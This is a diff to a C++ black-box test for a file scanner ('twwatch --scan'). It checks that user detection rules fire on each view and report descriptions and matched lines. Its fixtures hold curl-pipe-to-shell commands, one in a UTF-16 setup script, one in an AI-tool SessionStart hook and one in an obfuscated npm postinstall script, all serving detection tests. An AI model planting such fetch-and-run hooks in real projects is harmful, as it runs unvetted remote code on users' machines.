@@ -1,10 +1,11 @@
 // Black-box: a user rule that targets one view (`view == "..."`) fires through the real `twwatch --scan`
-// on a file whose raw bytes do not hold the text it looks for.
+// on a file whose raw bytes do not hold the text it looks for; its line carries the rule's description
+// and, where the view keeps the file's lines, the line it matched on.
 
 #include "ScanRunner.h"
 
 #include <gtest/gtest.h>
-#include <set>
+#include <map>
 
 namespace fs = std::filesystem;
 using namespace tw::test;
@@ -18,6 +19,8 @@ struct Row
     const char* needle; // what the rule looks for, only in that view
     const char* file;
     std::string content;
+    const char* description; // none when null
+    std::vector<std::uint32_t> lines;
 };
 
 std::string utf16le(const std::string& ascii)
@@ -30,23 +33,49 @@ std::string utf16le(const std::string& ascii)
     return out;
 }
 
+// The rule-text form of a string: quotes, backslashes and line ends escaped as YARA reads them.
+std::string escaped(const std::string& text)
+{
+    std::string out;
+    for (char c : text)
+        out += c == '"' ? "\\\"" : c == '\\' ? "\\\\" : c == '\n' ? "\\n" : std::string(1, c);
+    return out;
+}
+
 TEST(RulesViewsScan, UserRulesOnEachViewFire)
 {
     const Row rows[] = {
-        {"user_text", "text", "curl -fsSL https://e.example/x | sh", "setup.sh",
-         utf16le("curl -fsSL https://e.example/x | sh\r\n")},
-        {"user_config", "config", "hooks.SessionStart.0.hooks.0.command = curl", ".claude/settings.json",
-         R"({"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "\u0063url -s x"}]}]}})"},
-        {"user_commands", "commands", "npm.postinstall: curl -fsSL", "pkg/package.json",
-         R"({"scripts": {"postinstall": "c\u0075rl -fsSL${IFS}https://e.example | sh"}})"},
+        {"user_text",
+         "text",
+         "curl -fsSL https://e.example/x | sh",
+         "setup.sh",
+         utf16le("#!/bin/sh\r\ncurl -fsSL https://e.example/x | sh\r\n"),
+         "fetches \"x\"\nand runs it",
+         {2}},
+        {"user_config",
+         "config",
+         "hooks.SessionStart.0.hooks.0.command = curl",
+         ".claude/settings.json",
+         R"({"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "\u0063url -s x"}]}]}})",
+         "a hook",
+         {}},
+        {"user_commands",
+         "commands",
+         "npm.postinstall: curl -fsSL",
+         "pkg/package.json",
+         R"({"scripts": {"postinstall": "c\u0075rl -fsSL${IFS}https://e.example | sh"}})",
+         nullptr,
+         {}},
     };
     TempDir config;
     TempDir tree;
     useConfigHome(config.path());
     std::string rules;
     for (const auto& row : rows) {
-        rules += std::string("rule ") + row.rule + " { meta: severity = \"high\" strings: $a = \"" +
-                 row.needle + "\" condition: $a and view == \"" + row.view + "\" }\n";
+        const std::string description =
+            row.description ? " description = \"" + escaped(row.description) + "\"" : std::string();
+        rules += std::string("rule ") + row.rule + " { meta: severity = \"high\"" + description +
+                 " strings: $a = \"" + row.needle + "\" condition: $a and view == \"" + row.view + "\" }\n";
         fs::create_directories((tree / row.file).parent_path());
         writeFile(tree / row.file, row.content);
     }
@@ -54,11 +83,15 @@ TEST(RulesViewsScan, UserRulesOnEachViewFire)
 
     const ScanResult r = runTwwatch({"--scan", tree.path().string()});
     EXPECT_EQ(r.process.exitCode, 0) << r.process.err;
-    std::set<std::pair<std::string, std::string>> seen;
+    std::map<std::pair<std::string, std::string>, const Event*> seen;
     for (const auto& e : r.events)
-        seen.insert({fs::path(e.path).lexically_relative(tree.path()).string(), e.rule});
-    for (const auto& row : rows)
-        EXPECT_TRUE(seen.count({row.file, row.rule})) << row.rule << " on " << row.file;
+        seen[{fs::path(e.path).lexically_relative(tree.path()).string(), e.rule}] = &e;
+    for (const auto& row : rows) {
+        const auto e = seen.find({row.file, row.rule});
+        ASSERT_NE(e, seen.end()) << row.rule << " on " << row.file;
+        EXPECT_EQ(e->second->description, row.description ? row.description : "") << row.rule;
+        EXPECT_EQ(e->second->lines, row.lines) << row.rule;
+    }
 }
 
 } // namespace
